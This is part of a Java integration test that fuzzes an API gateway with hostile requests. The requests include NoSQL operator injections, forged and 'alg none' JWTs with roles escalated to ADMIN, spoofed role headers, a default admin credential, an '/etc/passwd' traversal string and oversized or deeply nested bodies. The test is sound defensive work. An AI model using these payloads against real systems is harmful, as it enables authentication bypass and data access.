                    add(cases, "unicode " + name, endpoint, path, json, replaced(endpoint, at, value), null);
                }
                for (String formula : pick(FORMULAS, 2)) {
                    add(cases, "formula " + name, endpoint, path, json, replaced(endpoint, at, "\"" + formula + "\""),
                            null);
                }
                for (byte[] raw : pick(RAW, 2)) {
                    addRaw(cases, "invalid UTF-8 " + name, endpoint, path, json, endpoint, at, raw);
                }
            }
        }
        // bytes no UTF-8 decoder may accept, even where any text would do
        Map.Entry<List<String>, Field> first = fields.get(0);
        addRaw(cases, "invalid UTF-8 start byte", endpoint, path, json, endpoint, first.getKey(), bytes(0xFF, 0xFE));

        // deep JSON: 5,000 levels of arrays, and of objects
        String deepArrays = "[".repeat(5000) + "]".repeat(5000);
        String deepObjects = "{\"a\":".repeat(5000) + "1" + "}".repeat(5000);
        add(cases, "nesting of 5,000 arrays", endpoint, path, json, replaced(endpoint, first.getKey(), deepArrays), 400);
        add(cases, "nesting of 5,000 objects", endpoint, path, json, replaced(endpoint, first.getKey(), deepObjects),
                400);

        // over 64 KiB, with a length and streamed without one
        String huge = replaced(endpoint, first.getKey(), "\"" + "x".repeat(70 * 1024) + "\"");
        add(cases, "over 64 KiB", endpoint, path, json, huge, 413);
        if (random.nextInt(3) == 0) {
            Hostile streamed = new Hostile("over 64 KiB, chunked", endpoint.name(), endpoint.method(), path, json,
                    huge.getBytes(StandardCharsets.UTF_8), true, 413);
            cases.putIfAbsent(streamed.key(), streamed);
        }

        // wrong, garbled, missing and duplicated Content-Type
        String valid = endpoint.validBody();
        for (String type : pick(CONTENT_TYPES, 3)) {
            List<String[]> headers = new ArrayList<>(auth);
            headers.add(new String[]{"Content-Type", type});
            add(cases, "content type " + type, endpoint, path, headers, valid, 415);
        }
        add(cases, "no content type", endpoint, path, auth, valid, 415);
        List<String[]> twoTypes = new ArrayList<>(auth);
        twoTypes.add(new String[]{"Content-Type", "text/plain"});
        twoTypes.add(new String[]{"Content-Type", JSON});
        add(cases, "duplicated content type", endpoint, path, twoTypes, valid, null);
        List<String[]> twoKeys = new ArrayList<>(json);
        // keys of their own: a key already used for another request is rightly a 409
        String key = "hostile-" + journeys.run + "-" + Integer.toHexString(endpoint.name().hashCode());
        twoKeys.add(new String[]{"Idempotency-Key", key + "-a"});
        twoKeys.add(new String[]{"Idempotency-Key", key + "-b"});
        add(cases, "duplicated Idempotency-Key, broken body", endpoint, path, twoKeys, "{\"broken\":", 400);
    }

    private static void walk(List<Field> fields, List<String> prefix, List<Map.Entry<List<String>, Field>> out) {
        for (Field field : fields) {
            List<String> at = new ArrayList<>(prefix);
            at.add(field.name());
            out.add(Map.entry(at, field));
            walk(field.children(), at, out);
        }
    }

    private static String replaced(Endpoint endpoint, List<String> path, String value) {
        return object(endpoint.body(), path, value);
    }

    private static List<String> wrongTypes(Kind kind) {
        return switch (kind) {
            case TEXT, ID, PASSWORD -> List.of("{\"$gt\":\"\"}", "[\"a\"]", "{}", "[]");
            case EMAIL -> List.of("{}", "[\"li@acme.example\"]", "{\"$ne\":null}");
            case LANGUAGE, ENUM, COUNTRY -> List.of("{}", "[\"en\"]", "\"NOT_A_VALUE\"", "42");
            case MONEY -> List.of("\"lots\"", "[]", "true", "{\"amount\":{\"$gt\":0},\"currency\":\"EUR\"}",
                    "{\"amount\":\"10\",\"currency\":[\"EUR\"]}", "{\"amount\":[10],\"currency\":\"EUR\"}");
            case INSTANT -> List.of("true", "{}", "\"yesterday\"", "\"2026-13-45T00:00:00Z\"");
            case DATE -> List.of("true", "{}", "\"2026-02-30\"", "\"01/12/2026\"");
            case DECIMAL -> List.of("{}", "[]", "\"a lot\"");
            case BOOL -> List.of("\"maybe\"", "{}", "[true]");
            case INT -> List.of("\"many\"", "{}", "[]");
            case LIST -> List.of("\"x\"", "{}", "42");
            case OBJECT -> List.of("\"x\"", "[]", "42");
            case IBAN, BIC -> List.of("{}", "[\"DE89370400440532013000\"]", "\"DE00000000000000000000\"");
        };
    }

    private List<String[]> json(List<String[]> headers, boolean withBody) {
        if (!withBody) {
            return headers;
        }
        List<String[]> all = new ArrayList<>(headers);
        all.add(new String[]{"Content-Type", JSON});
        return all;
    }

    private static List<String> brokenAuthorizations(Map<String, String> tokens) {
        String ops = tokens.get("ops");
        String[] parts = ops.split("\\.");
        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8)
                .replace("\"OPS\"", "\"ADMIN\"");
        String elevated = parts[0] + "." + Base64.getUrlEncoder().withoutPadding()
                .encodeToString(payload.getBytes(StandardCharsets.UTF_8)) + "." + parts[2];
        String flipped = ops.substring(0, ops.length() - 2) + (ops.endsWith("AA") ? "BB" : "AA");
        String none = Base64.getUrlEncoder().withoutPadding().encodeToString("{\"alg\":\"none\"}".getBytes())
                + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(payload.getBytes()) + ".";
        return List.of(
                "Basic " + Base64.getEncoder().encodeToString("admin:admin-dev-password".getBytes()),
                "Bearer", "Bearer ", "Bearer " + none, "Bearer " + elevated, "Bearer " + flipped, "Token " + ops,
                "Bearer " + "A".repeat(6000), "Bearer " + ops + " trailing", "Bearer\t" + ops, "Negotiate YIIhostile",
                "Bearer ../../etc/passwd", "Digest username=\"admin\"");
    }

    private static List<String[]> headers(String[]... headers) {
        return java.util.Arrays.asList(headers);
    }

    private static List<List<String[]>> forgedIdentities(Ids ids) {
        return List.of(
                headers(new String[]{"X-Rapport-User", "admin"}, new String[]{"X-Rapport-Roles", "ADMIN,OPS,FINANCE"}),
                headers(new String[]{"x-rapport-roles", "ADMIN"}),
                headers(new String[]{"X-Rapport-Partner-Id", ids.stranger()}),
                headers(new String[]{"X-Rapport-Partner-Id", ids.owner()}, new String[]{"X-Rapport-Roles", "OPS"}),
                headers(new String[]{"X_Rapport_Roles", "ADMIN"}),
                headers(new String[]{"X-User-Roles", "ADMIN"}, new String[]{"X-Roles", "ADMIN"}),
                headers(new String[]{"X-Forwarded-User", "admin"}, new String[]{"X-Remote-User", "admin"}),
                headers(new String[]{"X-Rapport-Roles", "PARTNER"}, new String[]{"X-Rapport-Roles", "ADMIN"}));
    }

    private void add(Map<String, Hostile> cases, String family, Endpoint endpoint, String path, List<String[]> headers,
                     String body, Integer exact) {
        Hostile hostile = new Hostile(family, endpoint.name(), endpoint.method(), path, headers,
                body == null ? null : body.getBytes(StandardCharsets.UTF_8), false, exact);
        cases.putIfAbsent(hostile.key(), hostile);
    }

    /** The body with the field's value a JSON string holding raw bytes that are not UTF-8. */
    private void addRaw(Map<String, Hostile> cases, String family, Endpoint endpoint, String path,
                        List<String[]> headers, Endpoint of, List<String> at, byte[] raw) {
        String marker = "\"HOSTILE-RAW-BYTES\"";
        String[] halves = replaced(of, at, marker).split(java.util.regex.Pattern.quote(marker), 2);
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(halves[0].getBytes(StandardCharsets.UTF_8));
        body.writeBytes("\"e".getBytes(StandardCharsets.UTF_8));
        body.writeBytes(raw);
        body.writeBytes("n\"".getBytes(StandardCharsets.UTF_8));
        body.writeBytes(halves[1].getBytes(StandardCharsets.UTF_8));
        Hostile hostile = new Hostile(family, endpoint.name(), endpoint.method(), path, headers, body.toByteArray(),
                false, 400);
        cases.putIfAbsent(hostile.key(), hostile);
    }

    /** {@code count} of the values, chosen by the seeded generator. */
    private <T> List<T> pick(List<T> values, int count) {
        List<T> shuffled = new ArrayList<>(values);
        Collections.shuffle(shuffled, random);
        return shuffled.subList(0, Math.min(count, shuffled.size()));
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    // ------------------------------------------------------------------------------------------ the wire

    /** Sends exactly these headers and bytes; waits out the sign-in rate limit rather than count a 429. */
    private Api.Response send(Hostile hostile) throws Exception {
        for (int attempt = 0; ; attempt++) {
            HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(journeys.stack.gatewayUrl() + hostile.path()))
                    .timeout(Duration.ofSeconds(30))
                    .header("Accept", "application/json, application/problem+json, */*");
            HttpRequest.BodyPublisher body = hostile.body() == null ? HttpRequest.BodyPublishers.noBody()
                    : hostile.chunked()
                    ? HttpRequest.BodyPublishers.fromPublisher(HttpRequest.BodyPublishers.ofByteArray(hostile.body()))
                    : HttpRequest.BodyPublishers.ofByteArray(hostile.body());
            request.method(hostile.method(), body);
            hostile.headers().forEach(h -> request.header(h[0], h[1]));
            HttpResponse<String> response;
            try {
                response = http.sendAsync(request.build(), HttpResponse.BodyHandlers.ofString())
                        .get(40, TimeUnit.SECONDS);
            } catch (TimeoutException e) {
                throw new AssertionError("no complete answer within 40 s: " + hostile.describe(), e);
            }
            if (response.statusCode() == 429 && attempt < 6 && hostile.path().startsWith("/auth/")) {
                long wait = response.headers().firstValueAsLong("Retry-After").orElse(5);
                Thread.sleep(Duration.ofSeconds(Math.min(Math.max(wait, 1), 30)).toMillis());
                continue;
            }
            return new Api.Response(response.statusCode(), response.headers(), response.body());
        }
    }

    private static String abbreviated(String text) {
        return text == null ? "" : text.length() > 400 ? text.substring(0, 400) + "..." : text;
    }

    // ------------------------------------------------------------------------------------------ what must not change

    private Map<String, String> settledSnapshot(Ids ids) {
        AtomicReference<Map<String, String>> last = new AtomicReference<>(snapshot(ids));
        await().atMost(Duration.ofSeconds(90)).pollDelay(Duration.ofSeconds(3)).pollInterval(Duration.ofSeconds(3))
                .until(() -> last.getAndSet(snapshot(ids)).equals(last.get()));
        return last.get();
    }

    private Map<String, String> snapshot(Ids ids) {
        Map<String, String> seen = new LinkedHashMap<>();
        String ops = journeys.ops;
        String finance = journeys.finance;
        look(seen, "/api/partners?size=1", ops);
        look(seen, "/api/partners/" + ids.owner(), ops);
        look(seen, "/api/partners/" + ids.stranger(), ops);
        look(seen, "/api/referrals?size=1", ops);
        look(seen, "/api/referrals?partnerId=" + ids.owner() + "&size=100", ops);
        look(seen, "/api/referrals?partnerId=" + ids.stranger() + "&size=100", ops);
        for (String referral : List.of(ids.open(), ids.qualified(), ids.contracted())) {
            look(seen, "/api/referrals/" + referral, ops);
            look(seen, "/api/deal-terms/" + referral, finance);
        }
        look(seen, "/api/commissions?partnerId=" + ids.owner() + "&size=100", finance);
        look(seen, "/api/commissions?partnerId=" + ids.stranger() + "&size=100", finance);
        look(seen, "/api/commissions/summary?partnerId=" + ids.owner(), finance);
        look(seen, "/api/commission-plans", finance);
        look(seen, "/api/partner-plans/" + ids.owner(), finance);
        look(seen, "/api/payout-details/" + ids.owner(), finance);
        look(seen, "/api/payouts", finance);
        look(seen, "/api/adjustments", finance);
        look(seen, "/api/disputes?partnerId=" + ids.owner(), finance);
        look(seen, "/api/tax-profiles/" + ids.owner(), finance);
        look(seen, "/api/notifications?partnerId=" + ids.owner() + "&size=100", ops);
        look(seen, "/api/notifications?partnerId=" + ids.stranger() + "&size=100", ops);
        look(seen, "/api/notification-preferences/" + ids.owner(), ops);
        look(seen, "/auth/users/" + ids.username(), journeys.admin);
        return seen;
    }

    /** The answer's status and body, without what moves on its own (delivery attempts). */
    private void look(Map<String, String> seen, String path, String token) {
        Api.Response response = api.get(path, token);
        String body;
        if (response.contentType().contains("json")) {
            JsonNode json = response.json();
            withoutDeliveries(json);
            if (json instanceof ObjectNode object && object.has("instance")) {
                object.remove("instance");
            }
            body = json.toString();
        } else {
            body = response.text();
        }
        seen.put(path, response.status() + " " + body);
    }

    private static void withoutDeliveries(JsonNode node) {
        if (node instanceof ObjectNode object) {
            object.remove("deliveries");
            object.forEach(HostileInputIT::withoutDeliveries);
        } else if (node instanceof ArrayNode array) {
            array.forEach(HostileInputIT::withoutDeliveries);
        }
    }
}
